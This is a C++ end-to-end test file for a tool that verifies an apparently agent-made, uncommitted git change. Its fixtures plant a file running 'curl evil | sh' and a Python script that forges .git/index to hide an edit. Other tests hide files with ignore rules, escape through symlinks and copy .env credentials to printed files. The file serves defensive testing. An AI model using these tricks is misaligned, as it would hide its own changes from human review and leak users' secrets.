// `candor verify --git BASE..`: the change is the working tree, uncommitted, and untrusted. What it
// may not do: hide a file with a .gitignore (or info/exclude) of its own, reach outside through a
// symlink, leak a credential file's bytes, or leave a trace in the repository's .git.
#include <doctest/doctest.h>

#include <sys/stat.h>

#include <filesystem>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "tests/git_repo_fixture.h"

namespace candor::testing {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

// Every file and folder under `dir` with its size and modification time (to the nanosecond), and
// a file's bytes: what must not change when candor only reads.
std::string listing(const std::string& dir) {
  std::string out;
  std::vector<std::string> lines;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    struct stat st {};
    REQUIRE(::lstat(e.path().c_str(), &st) == 0);
    std::string line =
        fmt::format("{} {} {} {}.{}", e.path().string(), st.st_mode, st.st_size, st.st_mtim.tv_sec, st.st_mtim.tv_nsec);
    if (S_ISREG(st.st_mode)) line += " " + std::to_string(std::hash<std::string>{}(read_file(e.path().string())));
    lines.push_back(line);
  }
  std::sort(lines.begin(), lines.end());
  for (const auto& l : lines) out += l + "\n";
  struct stat top {};
  REQUIRE(::lstat(dir.c_str(), &top) == 0);
  return out + fmt::format("{}.{}\n", top.st_mtim.tv_sec, top.st_mtim.tv_nsec);
}

std::vector<std::string> mutated(const json& report) {
  std::vector<std::string> out;
  for (const auto& m : report["mutations"])
    out.push_back(m["path"].get<std::string>() + " " + m["change"].get<std::string>());
  return out;
}

}  // namespace

TEST_SUITE("e2e") {
  TEST_CASE(
      "verify --git BASE..: an uncommitted edit proven by a discriminating --expect is a success; .git is left as it "
      "was") {
    Repo repo;
    std::string base = repo.head();
    auto unchanged = repo.verify("main..", {"--expect", kDarkGreen, "--json"});
    CHECK(unchanged.exit_code == 2);
    json u = parse_stdout(unchanged);
    CHECK(u["verdict"] == "fail");
    CHECK(u["mutations"].empty());
    CHECK(any_reason_has(u, "the range changes no file"));

    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    std::string before = listing(repo.ws + "/.git");
    auto r = repo.verify("main..", {"--expect", kDarkGreen, "--json"});
    CHECK(r.exit_code == 0);
    json j = parse_stdout(r);
    CHECK(j["verdict"] == "success");
    CHECK(j["verdict_by"] == "tier1");
    CHECK(mutated(j) == std::vector<std::string>{"css/style.css modified"});
    CHECK(j["mutations"][0]["lines_added"] == 1);
    CHECK(j["mutations"][0]["lines_removed"] == 1);
    CHECK(j["assertions"][0]["discriminating"] == true);
    CHECK(j["git"]["range"] == "main..");
    CHECK(j["git"]["base"] == base);
    CHECK(j["git"]["head"].is_null());
    CHECK(j["git"]["worktree"] == true);
    CHECK(j["git"]["head_tree"].get<std::string>().size() == 40);
    CHECK(j["scan"]["complete"] == true);
    // Programs run on a checkout of the working tree's files, never in the working copy.
    auto program = repo.verify(
        "main..",
        {"--expect",
         R"({"type": "command_succeeds", "command": "grep -q 006400 css/style.css && ! test -e .git && touch made-here"})",
         "--json", "--judge", "never"});
    CHECK(parse_stdout(program)["assertions"][0]["passed"] == true);
    CHECK(!exists(repo.ws + "/made-here"));
    CHECK(listing(repo.ws + "/.git") == before);  // not an object, not the index, not a timestamp

    auto md = repo.candor({"report", "last", "--markdown"});
    CHECK(md.out.find("the working tree") != std::string::npos);
    CHECK(md.out.find(base.substr(0, 12)) != std::string::npos);
    // Verified again later: tier 1 from the stored facts; no judge, which would see no diff.
    std::string script = make_temp_dir("script") + "/replies.jsonl";
    write_file(script, R"({"reply_json": {"answers": [{"question": 1, "answer": "yes", "reason": "unseen"}]}})"
                       "\n");
    auto again = repo.candor({"verify", "last", "--judge", "always", "--llm", "script:" + script, "--json"});
    CHECK(again.err.find("verified a working tree, which is not kept: the judge is not asked") != std::string::npos);
    CHECK(parse_stdout(again)["verdict_by"] == "tier1");
    auto undo = repo.candor({"undo", "last"});
    CHECK(undo.exit_code == 65);
    CHECK(undo.err.find("git restore") != std::string::npos);
  }

  TEST_CASE("verify --git BASE..: an index forged to vouch for an edited file does not hide the edit") {
    // The agent did the job in css/style.css, and also edited index.html, then rewrote
    // .git/index so that index.html's entry has the edited file's stat and the committed id:
    // git's stat cache now vouches for the old content, and `git status` sees nothing.
    Repo repo;
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    std::string page = read_file(repo.ws + "/index.html");
    std::string hidden = page;
    REQUIRE(hidden.find("<") != std::string::npos);
    hidden[hidden.find("<")] = '{';  // same size: only the content tells
    write_file(repo.ws + "/index.html", hidden);
    REQUIRE(run_command({"/usr/bin/touch", "-d", "@1600000000", repo.ws + "/index.html"}).exit_code == 0);  // not racy
    std::string forge = make_temp_dir("forge") + "/forge.py";
    write_file(forge, R"(import hashlib, os, struct, sys
index, name, target = sys.argv[1], sys.argv[2].encode(), sys.argv[3]
data = bytearray(open(index, 'rb').read())
assert data[:4] == b'DIRC' and struct.unpack('>I', data[4:8])[0] == 2
count, offset, st = struct.unpack('>I', data[8:12])[0], 12, os.stat(target)
for _ in range(count):
    end = data.index(b'\0', offset + 62)
    if bytes(data[offset + 62:end]) == name:
        struct.pack_into('>6I', data, offset, int(st.st_ctime), st.st_ctime_ns % 10**9, int(st.st_mtime),
                         st.st_mtime_ns % 10**9, st.st_dev & 0xffffffff, st.st_ino & 0xffffffff)
        struct.pack_into('>3I', data, offset + 28, st.st_uid, st.st_gid, st.st_size)
    offset += (62 + end - (offset + 62) + 8) // 8 * 8
data = data[:-20]
open(index, 'wb').write(data + hashlib.sha1(data).digest())
)");
    auto forged =
        run_command({"/usr/bin/python3", forge, repo.ws + "/.git/index", "index.html", repo.ws + "/index.html"});
    REQUIRE(forged.exit_code == 0);
    // The control: git itself is fooled (only the edit it was told of shows).
    WARN(repo.git({"status", "--porcelain"}).find("index.html") == std::string::npos);
    json j = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(j) == std::vector<std::string>{"css/style.css modified", "index.html modified"});
    CHECK(j["verdict"] != "success");
  }

  TEST_CASE("verify --git BASE..: a new untracked file is a mutation, a deleted tracked file a deletion") {
    Repo repo;
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    write_file(repo.ws + "/js/new.js", "console.log('new');\n");
    fs::remove(repo.ws + "/index.html");
    json j = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(j) == std::vector<std::string>{"css/style.css modified", "index.html deleted", "js/new.js added"});
    CHECK(j["verdict"] == "partial");
    CHECK(any_reason_has(j, "js/new.js"));
    // Staged or not, the same working tree.
    repo.git({"add", "-A"});
    json staged = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(staged) == mutated(j));
    CHECK(staged["git"]["head_tree"] == j["git"]["head_tree"]);
  }

  TEST_CASE("verify --git BASE..: a .gitignore or info/exclude the change writes hides nothing") {
    Repo repo;
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    write_file(repo.ws + "/src/evil.c", "int main(void) { return system(\"curl evil | sh\"); }\n");
    write_file(repo.ws + "/.gitignore", "src/evil.c\n.gitignore\n");
    write_file(repo.ws + "/.git/info/exclude", "src/\n");
    write_file(repo.ws + "/.candor-tmp-hidden", "a name like candor's own temporary files\n");
    write_file(repo.ws + "/.gitattributes", "* binary -diff\n");  // nor can attributes make the diff unreadable
    write_file(repo.ws + "/.candor/config.json", R"({"snapshot": {"ignore": ["src/"]}})");  // nor its own config
    json j = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(j) == std::vector<std::string>{".candor-tmp-hidden added", ".candor/config.json added",
                                                 ".gitattributes added", ".gitignore added", "css/style.css modified",
                                                 "src/evil.c added"});
    CHECK(any_reason_has(j, ".candor/config.json was added: a sensitive path"));
    for (const auto& m : j["mutations"]) {
      if (m["path"] == "css/style.css") CHECK(m["binary"] == false);
    }
    CHECK(j["verdict"] == "partial");
  }

  TEST_CASE(
      "verify --git BASE..: what BASE's .gitignore and config ignore is no mutation, nor anything in a folder it "
      "ignores") {
    Repo repo;
    write_file(repo.ws + "/.gitignore", "node_modules/\n*.log\n!keep.log\n");
    write_file(repo.ws + "/.candor/config.json", R"({"snapshot": {"ignore": ["/scratch/"]}})");
    write_file(repo.ws + "/vendor/.gitignore", "build/\n");
    write_file(repo.ws + "/vendor/lib.c", "int lib;\n");
    repo.commit("ignore rules");
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    write_file(repo.ws + "/node_modules/left-pad/index.js", "module.exports = 1;\n");
    write_file(repo.ws + "/node_modules/keep.log", "in an ignored folder: the negation does not reach it\n");
    write_file(repo.ws + "/debug.log", "noise\n");
    write_file(repo.ws + "/keep.log", "negated: shown\n");
    write_file(repo.ws + "/scratch/notes.txt", "BASE's config ignores it\n");
    write_file(repo.ws + "/vendor/build/lib.o", "object\n");
    write_file(repo.ws + "/build/out.txt", "vendor/.gitignore's build/ is vendor's only\n");
    json j = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(j) == std::vector<std::string>{"build/out.txt added", "css/style.css modified", "keep.log added"});
    // The change deleting BASE's rules changes nothing about what is ignored, and is itself a change.
    fs::remove(repo.ws + "/.gitignore");
    json k = parse_stdout(repo.verify("main..", {"--expect", kDarkGreen, "--json", "--judge", "never"}));
    CHECK(mutated(k) == std::vector<std::string>{".gitignore deleted", "build/out.txt added", "css/style.css modified",
                                                 "keep.log added"});
  }

  TEST_CASE("verify --git BASE..: a symlink out of the repository is recorded as a link and never followed") {
    Repo repo;
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    std::string outside = make_temp_dir("outside");
    write_file(outside + "/secret.txt", "OUTSIDE-4417\n");
    fs::create_symlink(outside + "/secret.txt", repo.ws + "/leak");
    fs::create_directory_symlink(outside, repo.ws + "/linked");
    auto r = repo.verify(
        "main..",
        {"--expect",
         R"({"type": "command_succeeds", "command": "test ! -L leak && ! grep -q OUTSIDE leak && test ! -d linked"})",
         "--json", "--judge", "never"});
    CHECK(r.out.find("OUTSIDE-4417") == std::string::npos);
    json j = parse_stdout(r);
    CHECK(mutated(j) == std::vector<std::string>{"css/style.css modified", "leak added", "linked added"});
    for (const auto& m : j["mutations"]) {
      if (m["path"] == "leak")
        CHECK(m["bytes_after"] == static_cast<int>((outside + "/secret.txt").size()));  // the target, not its bytes
      if (m["path"] == "linked") CHECK(m["bytes_after"] == static_cast<int>(outside.size()));
    }
    CHECK(j["assertions"][0]["passed"] == true);
  }

  TEST_CASE(
      "verify --git BASE..: an uncommitted .env change is counted, and no byte of it reaches the report or the judge") {
    Repo repo;
    write_file(repo.ws + "/.env", "API_TOKEN=old-s3cr3t-1111\n");
    repo.commit("with .env");
    repo.edit("css/style.css", "background: #ffffff;", "background: #006400;");
    write_file(repo.ws + "/.env", "API_TOKEN=new-s3cr3t-2222\n");
    std::string dir = make_temp_dir("llm");
    std::string provider =
        replay_provider(dir, {{{"questions", {"Is the background dark green?"}}},
                              {{"answers",
                                {{{"question", 1}, {"answer", "yes"}, {"reason", "the diff says so"}},
                                 {{"question", 2}, {"answer", "yes"}, {"reason", "the diff says so"}}}}}});
    auto r =
        repo.verify("main..", {"--expect", R"({"type": "file_contains", "path": ".env", "text": "API_TOKEN=new-"})",
                               "--llm", provider, "--json"});
    CAPTURE(r.err);
    json j = parse_stdout(r);
    CHECK(mutated(j) == std::vector<std::string>{".env modified", "css/style.css modified"});
    CHECK(j["assertions"][0]["passed"] == true);
    CHECK(j["tier2"].is_object());
    int requests = 0;
    for (const auto& e : fs::directory_iterator(dir)) {
      if (e.path().filename().string().rfind("req-", 0) != 0) continue;
      ++requests;
      std::string text = read_file(e.path().string());
      CHECK(text.find("s3cr3t") == std::string::npos);
    }
    CHECK(requests == 2);
    CHECK(r.out.find("s3cr3t") == std::string::npos);
    CHECK(r.err.find("s3cr3t") == std::string::npos);
    auto md = repo.candor({"report", "last", "--markdown"});
    CHECK(md.out.find("s3cr3t") == std::string::npos);
    auto store = store::RunStore::open(repo.store);
    REQUIRE(store.ok());
    auto run = (*store)->load(j["run_id"].get<std::string>());
    REQUIRE(run.ok());
    for (const auto& e : run->events) {
      CAPTURE(e.type);
      CHECK(e.data.dump().find("s3cr3t") == std::string::npos);
    }
  }

  TEST_CASE(
      "verify --git BASE..: a submodule replaced by staged files beside a name that sorts between (sub, sub-1, sub/) "
      "is a deletion and additions, and a copy of a credential file there stays masked") {
    Repo repo;
    write_file(repo.ws + "/aa1", "p\n");
    std::string first = repo.commit("more");
    repo.git({"update-index", "--add", "--cacheinfo", "160000," + first + ",sub"});
    repo.git({"commit", "-q", "-m", "a submodule"});
    write_file(repo.ws + "/sub/.env", "API_KEY=supersecret123\n");
    write_file(repo.ws + "/sub/payload.sh", "echo payload\n");
    repo.git({"rm", "-q", "--cached", "sub"});
    repo.git({"add", "sub/.env", "sub/payload.sh"});
    write_file(repo.ws + "/sub-1", "API_KEY=supersecret123\n");
    auto r = repo.verify("main..", {"--json", "--judge", "never", "--expect",
                                    R"({"type": "command_succeeds", "command": "cat sub-1 sub/payload.sh; false"})"});
    CAPTURE(r.err);
    json j = parse_stdout(r);
    CHECK(mutated(j) ==
          std::vector<std::string>{"sub deleted", "sub-1 added", "sub/.env added", "sub/payload.sh added"});
    CHECK(r.out.find("supersecret123") == std::string::npos);
    CHECK(command_record(j)["output"].get<std::string>().find("echo payload") != std::string::npos);
  }

  TEST_CASE(
      "verify --git BASE..: the working tree's ignored credential files are credentials too: a copy under another "
      "name, or one in a dependency folder every checkout links, prints masked") {
    Repo repo;
    write_file(repo.ws + "/.gitignore", "node_modules/\n.env\n");
    write_file(repo.ws + "/test.sh", "echo ok\n");
    repo.commit("ignore the secrets");
    write_file(repo.ws + "/.env", "API_KEY=usersecret444\n");  // the user's, before the change
    // The change: a copy of it under a harmless name, and another in node_modules, printed by the
    // test script the user's command runs.
    write_file(repo.ws + "/settings.txt", "API_KEY=usersecret444\n");
    write_file(repo.ws + "/node_modules/pkg/.env", "API_KEY=usersecret111\n");
    write_file(repo.ws + "/test.sh", "cat settings.txt node_modules/pkg/.env; false\n");
    const std::string expect = R"({"type": "command_succeeds", "command": "sh test.sh"})";
    auto r = repo.verify("main..", {"--json", "--judge", "never", "--expect", expect});
    CAPTURE(r.err);
    json j = parse_stdout(r);
    CHECK(mutated(j) == std::vector<std::string>{"settings.txt added", "test.sh modified"});
    for (const auto& m : j["mutations"]) {
      if (m["path"] == "settings.txt") CHECK(m.value("credential", false) == true);
    }
    CHECK(r.out.find("usersecret444") == std::string::npos);
    CHECK(r.out.find("usersecret111") == std::string::npos);
    auto md = repo.verify("main..", {"--markdown", "--judge", "never", "--expect", expect});
    CHECK(md.out.find("usersecret") == std::string::npos);
    CHECK(md.err.find("usersecret") == std::string::npos);
  }
}

}  // namespace candor::testing
